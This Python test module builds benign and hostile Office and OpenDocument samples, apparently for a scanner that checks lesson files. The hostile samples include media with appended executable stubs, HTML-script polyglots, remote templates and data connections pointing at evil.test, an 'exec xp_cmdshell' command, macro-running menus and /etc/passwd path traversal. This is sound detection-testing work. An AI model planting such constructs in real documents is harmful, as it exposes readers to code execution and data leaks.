"""Office documents whose media are more than media, or whose parts lead somewhere; and the links,
films and photographs that lessons have."""

import gzip
import struct
from collections.abc import Callable
from functools import partial

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.containers import film_elsewhere
from tests.hostile.fillings import PROGRAM
from tests.hostile.images import SCRIPT, picture
from tests.hostile.media import box, mp3, mp4, wav, webm
from tests.hostile.office import (
    RELATION,
    excel,
    in_word,
    instruction,
    odp,
    odt,
    pptx,
    related,
    remade,
    word,
)

_MENU = "http://openoffice.org/2001/menu"
_XFORMS = "http://www.w3.org/2002/xforms"
_DRAWING = (
    b"\1\0\0\0\x6c\0\0\0" + b"\0" * 32 + b" EMF" + b"\0" * 64 + b"\x0e\0\0\0\x14\0\0\0" + b"\0" * 12
)
_RUNNING = b"MZ" + b"\x90" * 300
_ASF = bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c")
_ASF_DATA = bytes.fromhex("3626b2758e66cf11a6d900aa0062ce6c")
_COMMAND = bytes.fromhex("301afb1e620bd011a39b00a0c90348f6")
_PROGRAM = zipped({"run.exe": b"MZ" + b"\x90" * 99})


def _embedding(name: str, content: Callable[[], bytes]) -> bytes:
    return remade(pptx(), add={f"ppt/media/{name}": content()})


def _linking_by(xml: str) -> bytes:
    """A picture of elsewhere whose relationship says that it is a page to read."""
    names = f'xmlns:a="urn:a" xmlns:r="{RELATION}" xmlns:v="urn:schemas-microsoft-com:vml"'
    linked = related(word(), "word/_rels/document.xml.rels", "hyperlink", "http://evil.test/a.png")
    body = f"<w:p><w:r><x {names}>{xml}</x></w:r></w:p><w:sectPr".encode()
    return remade(linked, change={"word/document.xml": (b"<w:sectPr", body)})


def _pictured(name: str, content: Callable[[], bytes]) -> bytes:
    return remade(odp(), add={f"Pictures/{name}": content()})


def _field_to(target: str) -> bytes:
    return in_word(instruction(f"HYPERLINK &quot;{target}&quot;"))


def _connected(xml: str) -> bytes:
    return remade(excel(), add={"xl/connections.xml": f"<connections>{xml}</connections>".encode()})


def _in_text(xml: str) -> bytes:
    return remade(odt(), change={"content.xml": (b"<office:text", f"{xml}<office:text".encode())})


def _drawn(href: str) -> bytes:
    return _in_text(f'<draw:image xlink:href="{href}"/>')


def _linked(target: str) -> bytes:
    return related(pptx(), "ppt/slides/_rels/slide1.xml.rels", "hyperlink", target)


def _configured(part: str, attribute: str) -> bytes:
    xml = f'<menu:menubar xmlns:menu="{_MENU}" xmlns:xlink="http://www.w3.org/1999/xlink"><menu:menuitem {attribute}/></menu:menubar>'
    return remade(odt(), add={part: xml.encode()})


def _windows_media(header: bytes = b"") -> bytes:
    """Of header and data alone."""
    inner = struct.pack("<IBB", 1, 1, 2) + header
    return (
        _ASF
        + struct.pack("<Q", 24 + len(inner))
        + inner
        + _ASF_DATA
        + struct.pack("<Q", 50)
        + b"\0" * 26
    )


def _templated(target: str) -> bytes:
    return related(word(), "word/_rels/settings.xml.rels", "attachedTemplate", target)


def _untidy(kind: str, mode: str, tail: bytes) -> bytes:
    return picture(kind, mode) + tail


def _sent() -> bytes:
    """A sound whose length its header does not know."""
    whole = wav()
    at = whole.index(b"data") + 4
    return whole[:4] + b"\xff" * 4 + whole[8:at] + b"\xff" * 4 + whole[at + 4 :]


_MEDIA: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
    ("a film of elsewhere", "a.mp4", film_elsewhere, "external-reference"),
    ("a QuickTime film of elsewhere", "a.mov", lambda: film_elsewhere().replace(b"isom", b"qt  "), "external-reference"),
    ("a picture and an archive", "a.png", lambda: picture("PNG") + _PROGRAM, "polyglot"),
    ("a picture and a program", "a.png", lambda: picture("PNG") + b"MZ" + b"\x90" * 300, "hidden-data"),
    ("a picture and a page", "a.png", lambda: picture("PNG") + b"<html>" + SCRIPT, "polyglot"),
    ("a photograph and a program", "a.jpg", lambda: picture("JPEG") + b"MZ" + b"\x90" * 300, "hidden-data"),
    ("a film and a page", "a.mp4", lambda: mp4() + box(b"free", b"<html>" + SCRIPT), "polyglot"),
    ("a film and a program", "a.mp4", lambda: mp4() + b"MZ" + b"\x90" * 300, "hidden-data"),
    ("a web film and an archive", "a.webm", lambda: webm() + _PROGRAM, "polyglot"),
    ("a sound and a program", "a.wav", lambda: wav() + b"MZ" + b"\x90" * 300, "hidden-data"),
    ("a drawing and an archive", "a.emf", lambda: _DRAWING + _PROGRAM, "polyglot"),
    ("a bitmap and a program", "a.bmp", lambda: picture("BMP") + _RUNNING, "hidden-data"),
    ("a bitmap that is a program", "a.bmp", lambda: b"BM\0\0" + _RUNNING, "embedded-file"),
    ("a scan and a program", "a.tiff", lambda: picture("TIFF") + _RUNNING, "hidden-data"),
    ("a drawing and a program", "a.emf", lambda: _DRAWING + _RUNNING, "hidden-data"),
    ("a metafile that is a program", "a.wmf", lambda: b"\xd7\xcd\xc6\x9a" + _RUNNING, "embedded-file"),
    ("a packed drawing and a program", "a.emz", lambda: gzip.compress(_DRAWING + _RUNNING), "hidden-data"),
    ("a film that opens an address", "a.wmv", lambda: _windows_media(_COMMAND), "action"),
    ("a Windows film and a program", "a.wmv", lambda: _windows_media() + _RUNNING, "hidden-data"),
    ("a packed program", "a.wmz", lambda: gzip.compress(b"MZ" + b"\x90" * 99), "embedded-file"),
    ("a packed drawing and an archive", "a.wmz", lambda: gzip.compress(_DRAWING) + _PROGRAM, "polyglot"),
)  # fmt: skip
_UNTIDY = (("JPEG", "RGB", b"\r\n"), ("PNG", "RGB", b"\n"), ("GIF", "P", b"\0;"))
_CONNECTIONS: tuple[tuple[str, str], ...] = (
    ("a database of 2013", '<connection refreshOnLoad="1"><extLst><ext><x15:connection xmlns:x15="urn:x15" id="a"><x15:oledbPr connection="Provider=SQLOLEDB;Data Source=evil.test"><x15:dbCommand text="exec xp_cmdshell"/></x15:oledbPr></x15:connection></ext></extLst></connection>'),
    ("a feed", '<connection><x15:connection xmlns:x15="urn:x15"><x15:dataFeedPr connection="http://evil.test"/></x15:connection></connection>'),
    ("a file of a connection", '<connection odcFile="\\\\evil.test\\a.odc" sourceFile="http://evil.test/a"/>'),
)  # fmt: skip
_ODF: tuple[tuple[str, Callable[[], bytes], str], ...] = (
    ("a menu that runs a script", lambda: _configured("Configurations2/menubar/menubar.xml", 'menu:id="vnd.sun.star.script:a.b?language=Basic"'), "macro"),
    ("a key that runs a macro", lambda: _configured("Configurations2/accelerator/current.xml", 'xlink:href="macro:///a.b"'), "macro"),
    *((f"a menu of {command}", partial(_configured, "Configurations2/menubar/menubar.xml", f'menu:id="{command}"'), "macro") for command in (".uno:Open?URL:string=file://evil", ".uno:RunMacro", "vnd.libreoffice.command:x", "http://evil/x.exe", "private:factory/x", "slot:5500")),
    ("a picture of any folder and a program", lambda: remade(odt(), add={"Foo/a.png": picture("PNG") + _RUNNING}), "hidden-data"),
    ("a form filled from elsewhere", lambda: _in_text(f'<xforms:instance xmlns:xforms="{_XFORMS}" src="http://evil.test/a"/>'), "external-reference"),
    ("a form of a resource elsewhere", lambda: _in_text(f'<xforms:instance xmlns:xforms="{_XFORMS}" resource="//evil.test/a"/>'), "external-reference"),
    ("a picture above the document", lambda: _drawn("../../../../etc/passwd"), "external-reference"),
    ("a picture of the computer", lambda: _drawn("/../../../../etc/passwd"), "external-reference"),
    ("a picture above, escaped,", lambda: _drawn("Pictures/%2e%2e/../%2e%2e/a"), "external-reference"),
    ("a picture above, by backslashes,", lambda: _drawn("..\\..\\a.png"), "external-reference"),
    ("a table's formula that asks a service", lambda: _in_text('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.test&quot;)"/>'), "action"),
    ("a macro of old", lambda: _in_text('<text:execute-macro text:name="a"/>'), "macro"),
    ("a font that holds a program", lambda: remade(odt(), add={"Fonts/a.ttf": b"\0\1\0\0" + b"\1" * 99 + PROGRAM}), "embedded-file"),
    ("a picture in reserve that holds a program", lambda: remade(odt(), add={"ObjectReplacements/Object 1": b"VCLMTF" + PROGRAM}), "embedded-file"),
    ("a template on a share", lambda: _in_text('<meta:template xlink:href="//evil.test/a.ott"/>'), "external-reference"),
)  # fmt: skip
_LINKS = (
    "视频/实验.mp4", "%E8%A7%86%E9%A2%91/%E5%AE%9E%E9%AA%8C.MP4", "../附件.docx", "讲义.pdf#page=3",
    "www.smartedu.cn", "www.smartedu.cn/a/b.html",
)  # fmt: skip

HONEST = [
    *(Case(f"a presentation with a link to {target}", "a.pptx", partial(_linked, target)) for target in _LINKS),
    *(Case(f"a document with a field to {target}", "a.docx", partial(_field_to, target)) for target in ("附件.docx", "www.smartedu.cn")),
    *(Case(f"a presentation with {name}", "a.pptx", partial(_embedding, name, make)) for name, make in (("a.mp4", mp4), ("a.webm", webm), ("a.mp3", mp3), ("a.wav", wav), ("a.gif", lambda: picture("GIF", "P")), ("a.bmp", lambda: picture("BMP")), ("a.tiff", lambda: picture("TIFF")), ("a.wmv", _windows_media), ("a.emf", lambda: _DRAWING), ("cut.jpg", lambda: picture("JPEG")[:-2]), ("cut.gif", lambda: picture("GIF", "P")[:-1]), ("padded.mp4", lambda: mp4() + b"\0" * 8), ("sent.wav", _sent), ("a.wmz", lambda: gzip.compress(_DRAWING)))),
    Case("an OpenDocument made from a template", "a.odt", lambda: _in_text('<meta:template xlink:href="../../usr/share/a.ott"/><meta:template xlink:href="file:///C:/a.ott"/>')),
    Case("a ZIP of an open document", "a.zip", lambda: zipped({"课/教学设计.docx": word(), "课/~$设计.docx": b"\6" + b"\0" * 161})),
    *(Case(f"a presentation with an untidy {kind}", "a.pptx", partial(_embedding, f"a.{kind.lower()}", partial(_untidy, kind, mode, tail))) for kind, mode, tail in _UNTIDY),
    Case("an OpenDocument with names like addresses", "a.odt", lambda: _in_text('<draw:frame draw:name="Macro: 微距照片 1"/><text:bookmark text:name="service:售后"/>')),
    *(Case(f"a document made from {target}", "a.docx", partial(_templated, target)) for target in ("file:///C:\\a\\教案.dotx", "file:///D:/a%20b/教案.dotx")),
    Case("an OpenDocument with its picture", "a.odt", lambda: _drawn("./Pictures/a.png")),
    Case("an OpenDocument with a link to a film", "a.odt", lambda: _in_text('<text:a xlink:href="../视频/实验.mp4"/>')),
    Case("an OpenDocument with a menu", "a.odt", lambda: _configured("Configurations2/menubar/menubar.xml", 'menu:id=".uno:Save"')),
]  # fmt: skip

HOSTILE = [
    *(Case(f"{what} in a presentation", "a.pptx", partial(_embedding, name, make), code) for what, name, make, code in _MEDIA),
    *(Case(f"{what} in an OpenDocument presentation", "a.odp", partial(_pictured, name, make), code) for what, name, make, code in _MEDIA),
    *(Case(f"a workbook connected to {what}", "a.xlsx", partial(_connected, xml), "external-reference") for what, xml in _CONNECTIONS),
    *(Case(f"{what} in OpenDocument", "a.odt", make, code) for what, make, code in _ODF),
    *(Case(f"a document of a template at {target}", "a.docx", partial(_templated, target), "external-reference") for target in ("\\\\evil\\a.dotm", "file://evil/a.dotx", "file:///C:\\..\\a.dotx", "file:///C:/a//evil/a.dotx")),
    Case("a control that names a macro", "a.xlsx", lambda: remade(excel(), add={"xl/ctrlProps/ctrlProp1.xml": b'<formControlPr fmlaMacro="[0]!run"/>'}), "macro"),
    Case("a picture linked as a page", "a.docx", lambda: _linking_by('<a:blip r:link="rIdX"/>'), "external-reference"),
    Case("a drawing linked as a page", "a.docx", lambda: _linking_by('<v:imagedata r:href="rIdX"/>'), "external-reference"),
    Case("a film of the web in a document", "a.docx", lambda: in_word('<w:p><wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe src=&quot;http://evil.test&quot;/>"/></w:p>'), "external-reference"),
    Case("pictures of the web in a workbook", "a.xlsx", lambda: remade(excel(), add={"xl/richData/rdRichValueWebImage.xml": b'<webImagesSrd><webImageSrd><address id="rId1"/></webImageSrd></webImagesSrd>'}), "external-reference"),
    Case("a document with a film of elsewhere", "a.docx", lambda: remade(word(), add={"word/media/a.mp4": film_elsewhere()}), "external-reference"),
    Case("a film with a page to spare", "a.mp4", lambda: mp4() + box(b"free", b"<html>" + SCRIPT), "polyglot"),
]  # fmt: skip
